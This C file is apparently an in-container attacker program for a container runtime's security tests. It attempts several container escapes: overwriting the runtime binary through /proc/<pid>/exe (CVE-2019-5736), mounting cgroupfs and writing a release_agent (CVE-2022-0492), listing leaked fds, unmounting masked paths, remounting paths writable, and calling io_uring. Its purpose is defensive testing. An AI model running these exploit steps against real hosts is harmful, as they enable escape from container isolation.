/* In-container attacker for the security tests; built static by conftest.py.
 *   attack exe OUT SECONDS   CVE-2019-5736: hold /proc/<pid>/exe of every other process
 *                            that appears and try to reopen it for writing (O_WRONLY via
 *                            /proc/self/fd/N) until SECONDS pass; results to OUT.
 *   attack fds               list open fds above 2 with their targets (CVE-2024-21626)
 *   attack cgroup            CVE-2022-0492: mount cgroupfs (v1 and v2), also after
 *                            unshare(user|mount|cgroup), and write a release_agent
 *   attack umount PATH       unmount PATH (to reveal what a masked path hides)
 *   attack remount-rw PATH   remount PATH writable
 *   attack unshare-umount PATH / unshare-remount-rw PATH   the same from a new user ns
 *   attack io_uring          io_uring_setup(2), kernel attack surface the default
 *                            seccomp profile denies (as docker's since 25.0)
 * Each prints one line per attempt, "OK ..." when the attack step worked, "DENIED ..."
 * with the errno when it did not. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int report(const char* what, int rc) {
  if (rc < 0) printf("DENIED %s: %s\n", what, strerror(errno));
  else printf("OK %s\n", what);
  fflush(stdout);
  return rc;
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

#define MAX_HELD 256

static int exe_attack(const char* out, int seconds) {
  FILE* f = fopen(out, "w");
  if (!f) return 2;
  /* Only the runtime is a target: not this program, not the container's busybox. */
  struct stat self, bb;
  stat("/proc/self/exe", &self);
  stat("/bin/busybox", &bb);
  int held[MAX_HELD], nheld = 0, opened = 0, wrote = 0;
  char seen[65536] = {0};
  int last_errno = 0;
  double end = now() + seconds;
  while (now() < end && !wrote) {
    DIR* d = opendir("/proc");
    struct dirent* e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == getpid() || pid >= 65536 || seen[pid]) continue;
      char p[64];
      snprintf(p, sizeof p, "/proc/%d/exe", pid);
      int fd = open(p, O_PATH | O_CLOEXEC);
      if (fd < 0) continue;
      struct stat st;
      if (fstat(fd, &st) != 0 || (st.st_ino == self.st_ino && st.st_dev == self.st_dev) ||
          (st.st_ino == bb.st_ino && st.st_dev == bb.st_dev)) {
        close(fd);
        continue;
      }
      seen[pid] = 1;
      if (nheld < MAX_HELD) {
        held[nheld++] = fd;
        opened++;
        fprintf(f, "OPENED pid %d ino %lu size %ld\n", pid, (unsigned long)st.st_ino,
                (long)st.st_size);
        fflush(f);
      } else {
        close(fd);
      }
    }
    if (d) closedir(d);
    /* The runc exploit: once the runtime has exited, ETXTBSY is gone and the binary can be
     * opened for writing through the held fd. */
    for (int i = 0; i < nheld; ++i) {
      char p[64];
      snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
      int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w >= 0 && write(w, "PWNED-BY-CONTAINER\n", 19) == 19) {
        wrote = 1;
        fprintf(f, "WROTE fd %d\n", held[i]);
      } else if (errno != last_errno) {
        last_errno = errno;
        fprintf(f, "DENIED %s: %s\n", w >= 0 ? "write" : "open for writing", strerror(errno));
      }
      if (w >= 0) close(w);
    }
    fflush(f);
  }
  fprintf(f, "DONE opened %d wrote %d\n", opened, wrote);
  fclose(f);
  return wrote;
}

static void fds(void) {
  DIR* d = opendir("/proc/self/fd");
  struct dirent* e;
  while (d && (e = readdir(d))) {
    int fd = atoi(e->d_name);
    if (e->d_name[0] == '.' || fd <= 2 || fd == dirfd(d)) continue;
    char p[64], target[4096] = {0};
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    readlink(p, target, sizeof target - 1);
    printf("FD %d %s\n", fd, target);
  }
  char cwd[4096];
  printf("CWD %s\n", getcwd(cwd, sizeof cwd) ? cwd : strerror(errno));
}

static int write_file(const char* path, const char* data) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) return -1;
  int rc = write(fd, data, strlen(data)) < 0 ? -1 : 0;
  close(fd);
  return rc;
}

static void cgroup_attack(const char* tag) {
  char msg[1024];
  /* /dev/shm: writable even with a read-only rootfs. */
  mkdir("/dev/shm/cg1", 0755);
  mkdir("/dev/shm/cg2", 0755);
  const char* ctrls[] = {"rdma", "memory", "pids", "none,name=x", NULL};
  for (int i = 0; ctrls[i]; ++i) {
    snprintf(msg, sizeof msg, "%s mount cgroup -o %s", tag, ctrls[i]);
    if (report(msg, mount("cgroup", "/dev/shm/cg1", "cgroup", 0, ctrls[i])) == 0) {
      snprintf(msg, sizeof msg, "%s write release_agent", tag);
      report(msg, write_file("/dev/shm/cg1/release_agent", "/evil"));
      umount2("/dev/shm/cg1", MNT_DETACH);
    }
  }
  snprintf(msg, sizeof msg, "%s mount cgroup2", tag);
  if (report(msg, mount("cgroup2", "/dev/shm/cg2", "cgroup2", 0, NULL)) == 0)
    umount2("/dev/shm/cg2", MNT_DETACH);
  /* Existing hierarchies under /sys/fs/cgroup: a release_agent file must not be writable. */
  DIR* d = opendir("/sys/fs/cgroup");
  struct dirent* e;
  while (d && (e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    char p[512];
    snprintf(p, sizeof p, "/sys/fs/cgroup/%s/release_agent", e->d_name);
    if (access(p, F_OK) != 0) continue;
    snprintf(msg, sizeof msg, "%s write %s", tag, p);
    report(msg, write_file(p, "/evil"));
  }
  if (d) closedir(d);
  snprintf(msg, sizeof msg, "%s write /sys/fs/cgroup/release_agent", tag);
  if (access("/sys/fs/cgroup/release_agent", F_OK) == 0)
    report(msg, write_file("/sys/fs/cgroup/release_agent", "/evil"));
}

static int unshare_userns(void) {
  uid_t uid = geteuid();
  gid_t gid = getegid();
  if (report("unshare user+mount+cgroup", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) < 0)
    return -1;
  char buf[64];
  write_file("/proc/self/setgroups", "deny");
  snprintf(buf, sizeof buf, "0 %u 1", uid);
  write_file("/proc/self/uid_map", buf);
  snprintf(buf, sizeof buf, "0 %u 1", gid);
  write_file("/proc/self/gid_map", buf);
  return 0;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) return 2;
  const char* cmd = argv[1];
  if (!strcmp(cmd, "exe") && argc == 4) return exe_attack(argv[2], atoi(argv[3]));
  if (!strcmp(cmd, "fds")) {
    fds();
    return 0;
  }
  if (!strcmp(cmd, "io_uring")) {
    static char params[120];
    report("io_uring_setup", (int)syscall(425 /* io_uring_setup */, 1, params));
    return 0;
  }
  if (!strcmp(cmd, "cgroup")) {
    cgroup_attack("direct");
    if (unshare_userns() == 0) cgroup_attack("userns");
    return 0;
  }
  int userns = !strncmp(cmd, "unshare-", 8);
  if (userns) {
    cmd += 8;
    if (unshare_userns() < 0) return 0;
  }
  if (!strcmp(cmd, "umount") && argc == 3) {
    report("umount", umount2(argv[2], 0));
    report("umount detach", umount2(argv[2], MNT_DETACH));
    return 0;
  }
  if (!strcmp(cmd, "remount-rw") && argc == 3) {
    report("remount bind rw", mount(NULL, argv[2], NULL, MS_REMOUNT | MS_BIND, NULL));
    report("remount rw", mount(NULL, argv[2], NULL, MS_REMOUNT, NULL));
    char probe[4096];
    snprintf(probe, sizeof probe, "%s/.hull-probe", argv[2]);
    int fd = open(probe, O_WRONLY | O_CREAT, 0644);
    report("create file", fd);
    if (fd >= 0) {
      close(fd);
      unlink(probe);
    }
    return 0;
  }
  fprintf(stderr, "attack: bad arguments\n");
  return 2;
}
